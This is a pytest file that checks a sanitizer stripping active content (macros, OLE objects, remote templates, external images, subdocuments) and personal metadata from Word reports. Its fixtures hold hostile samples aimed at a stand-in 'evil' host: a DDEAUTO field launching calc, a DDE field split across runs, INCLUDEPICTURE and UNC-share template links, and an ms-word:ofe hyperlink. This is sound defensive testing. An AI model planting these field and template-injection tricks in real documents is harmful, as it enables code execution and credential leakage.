"""Active content of a report is named, and does not travel; neither do paths and people's names."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from tests.appendix import consistent
from tests.appendix.conftest import WHEN
from xladdin.appendix.inert import inert
from xladdin.appendix.order import ordered
from xladdin.appendix.packing import pack
from xladdin.sources.active import active
from xladdin.sources.package import Package
from xladdin.sources.reading import read

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEXT = "三公经费支出5万元"
Parts = dict[str, bytes]


def field(*instructions: str, shown: str = TEXT) -> str:
    """A field in runs, its instruction torn into several."""
    said = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}<w:r><w:fldChar w:fldCharType="separate"/>'
        f'</w:r><w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def related(kind: str, target: str, number: int = 99) -> str:
    return (
        f'<Relationship Id="rId{number}" Type="{OFFICE}/{kind}" Target="{target}" '
        'TargetMode="External"/>'
    )


def with_body(xml: str, *relationships: str) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        text = parts["word/document.xml"].decode()
        whole = f'<w:p xmlns:r="{OFFICE}">{xml}</w:p>'
        parts["word/document.xml"] = text.replace("<w:body>", f"<w:body>{whole}", 1).encode()
        add(parts, "word/_rels/document.xml.rels", *relationships)

    return change


def add(parts: Parts, rels: str, *relationships: str) -> None:
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    text = parts.get(rels, empty).decode()
    parts[rels] = text.replace(
        "</Relationships>", "".join(relationships) + "</Relationships>"
    ).encode()


def attached_template(parts: Parts) -> None:
    add(parts, "word/_rels/settings.xml.rels", related("attachedTemplate", r"\\evil\x.dotm"))
    settings = parts["word/settings.xml"].decode()
    told = f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId99"/></w:settings>'
    parts["word/settings.xml"] = settings.replace("</w:settings>", told).encode()


def macros(parts: Parts) -> None:
    parts["word/vbaProject.bin"] = b"evil"
    add(
        parts,
        "word/_rels/document.xml.rels",
        '<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>',
    )
    types = parts["[Content_Types].xml"].decode()
    types = types.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
    ).replace(
        "</Types>",
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        "</Types>",
    )
    parts["[Content_Types].xml"] = types.encode()


def embedded(parts: Parts) -> None:
    parts["word/embeddings/oleObject1.bin"] = b"evil"
    with_body(
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId97"/>'
        "</w:object></w:r>",
        f'<Relationship Id="rId97" Type="{OFFICE}/oleObject" Target="embeddings/oleObject1.bin"/>',
    )(parts)
    types = parts["[Content_Types].xml"].decode()
    default = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    parts["[Content_Types].xml"] = types.replace("<Override", default + "<Override", 1).encode()


ATTACKS: dict[str, tuple[str, Callable[[Parts], None]]] = {
    "attached template": ("外部模板", attached_template),
    "macros": ("宏", macros),
    "embedded object": ("嵌入的对象", embedded),
    "linked object": (
        "外部对象",
        with_body(
            '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId99"/>'
            "</w:object></w:r>",
            related("oleObject", "file:///evil"),
        ),
    ),
    "outer picture": (
        "外部图片",
        with_body(
            '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:href="rId99"/></w:pict></w:r>',
            related("image", "http://evil/x.png"),
        ),
    ),
    "DDE": ("自动更新的域", with_body(field('DDEAUTO c:\\evil "/c calc"'))),
    "DDE in pieces": ("自动更新的域", with_body(field(" DD", "E c:\\evil x"))),
    "DDE behind a field": ("自动更新的域", with_body(field(" ", shown="") + field("QUOTE 1"))),
    "DDE named by a field": (
        "自动更新的域",
        with_body(
            field(" ", shown="").replace(
                "</w:instrText></w:r>",
                "</w:instrText></w:r>"
                + field(" QUOTE 68 ", shown="DDE")
                + "<w:r><w:instrText> cmd evil</w:instrText></w:r>",
                1,
            )
        ),
    ),
    "picture by a field": ("自动更新的域", with_body(field('INCLUDEPICTURE "http://evil/x.png"'))),
    "simple field": (
        "自动更新的域",
        with_body(f'<w:fldSimple w:instr="DDE evil"><w:r><w:t>{TEXT}</w:t></w:r></w:fldSimple>'),
    ),
    "sub-document": (
        "外部内容",
        with_body('<w:subDoc r:id="rId99"/>', related("subDocument", "file:///evil.docx")),
    ),
}


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Parts:
    """The parts of a faultless report."""
    report, _ = consistent.write(tmp_path_factory.mktemp("材料"))
    with zipfile.ZipFile(report) as package:
        return {name: package.read(name) for name in package.namelist()}


def packaged(parts: Parts) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return target.getvalue()


def unpacked(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return "".join(f"{name} {package.read(name)!r}" for name in package.namelist())


@pytest.mark.parametrize("attack", ATTACKS)
def test_active_content_is_named_and_left_out(attack: str, clean: Parts, tmp_path: Path) -> None:
    word, change = ATTACKS[attack]
    parts = dict(clean)
    change(parts)
    data = packaged(parts)
    (tmp_path / "报告.docx").write_bytes(data)
    assert any(word in note for note in read(tmp_path / "报告.docx").notes)
    made, told = inert(data, "报告.docx")
    assert word in told
    assert active(Package(made, "")) == ()
    assert not re.search(r"(?i)evil|macroenabled|vbaproject", unpacked(made))
    text = [each.text for each in docx.Document(io.BytesIO(made)).paragraphs]
    was = [each.text for each in docx.Document(io.BytesIO(packaged(clean))).paragraphs]
    assert text[-len(was) :] == was
    assert (TEXT in text) is (TEXT in parts["word/document.xml"].decode())


LED = {
    "field to a share": field(r'HYPERLINK "\\\\evil\\x"'),
    "field to a disk": field(r"HYPERLINK C:\evil.docx"),
    "drawing": '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="\\\\evil\\x">'
    '<v:imagedata xmlns:o="urn:schemas-microsoft-com:office:office" src="file://evil/x.png" o:href="http://evil/x"/>'
    "</v:shape></w:pict></w:r>",
    "scheme of a program": '<w:hyperlink r:id="rId99"><w:r><w:t>好</w:t></w:r></w:hyperlink>',
}


@pytest.mark.parametrize("way", LED)
def test_links_off_the_web_lead_nowhere(way: str, clean: Parts) -> None:
    parts = dict(clean)
    with_body(LED[way], related("hyperlink", "ms-word:ofe|u|http://evil/x"))(parts)
    made, _ = inert(packaged(parts), "报告.docx")
    assert "evil" not in unpacked(made)


def test_an_ordinary_report_is_left_as_it_is(clean: Parts) -> None:
    parts = dict(clean)
    with_body(
        field("PAGE") + field('HYPERLINK "http://www.gov.cn"') + field("TOC \\o 1-3"),
        related("hyperlink", "http://www.gov.cn"),
    )(parts)
    core = parts["docProps/core.xml"].decode()
    parts["docProps/core.xml"] = re.sub(r"(<dc:creator>)[^<]*", r"\1", core).encode()
    data = packaged(parts)
    assert inert(data, "报告.docx") == (data, ())


def test_writers_names_and_local_paths_do_not_travel(clean: Parts) -> None:
    parts = dict(clean)
    core = parts["docProps/core.xml"].decode()
    parts["docProps/core.xml"] = re.sub(r"(<dc:creator>)[^<]*", r"\1zhangsan", core).encode()
    with_body(
        '<w:ins w:id="1" w:author="zhangsan" w:date="2024-01-01T00:00:00Z"><w:r><w:t>好</w:t></w:r></w:ins>'
        '<w:hyperlink r:id="rId99"><w:r><w:t>附件</w:t></w:r></w:hyperlink>',
        related("hyperlink", "file:///C:/Users/zhangsan/附件.xlsx"),
    )(parts)
    made, told = inert(packaged(parts), "报告.docx")
    assert told == ()
    assert "zhangsan" not in unpacked(made)
    assert "附件" in docx.Document(io.BytesIO(made)).paragraphs[0].text


@pytest.mark.parametrize("keep", [False, True])
def test_a_packed_set_has_it_only_if_told(
    keep: bool, small: list[Path], clean: Parts, tmp_path: Path
) -> None:
    parts = dict(clean)
    for name in ("macros", "outer picture", "DDE"):
        ATTACKS[name][1](parts)
    report = small[0].rename(small[0].with_suffix(".docm"))
    report.write_bytes(packaged(parts))
    order, _ = ordered([report, small[1]], WHEN, draft=True, pdf=False, keep_active=keep)
    done = pack(order, tmp_path / "上报", lambda *_: None)
    assert any("宏、" in note for note in done.notes) is not keep
    whole = "".join(
        unpacked(each.read_bytes())
        for each in done.folder.iterdir()
        if each.suffix in (".docx", ".docm")
    )
    assert ("evil" in whole) is keep
    assert any(name.endswith(".docm") for name in done.files) is keep


def test_files_of_one_name_do_not_tell_where_they_lie(tmp_path: Path) -> None:
    from xladdin.sources.filing_files import read_filing

    for folder in ("甲", "乙"):
        (tmp_path / folder).mkdir()
        consistent.write(tmp_path / folder)
    paths = [tmp_path / folder / "自评报告.docx" for folder in ("甲", "乙")]
    assert [source.name for source in read_filing(paths)] == [
        "甲/自评报告.docx",
        "乙/自评报告.docx",
    ]
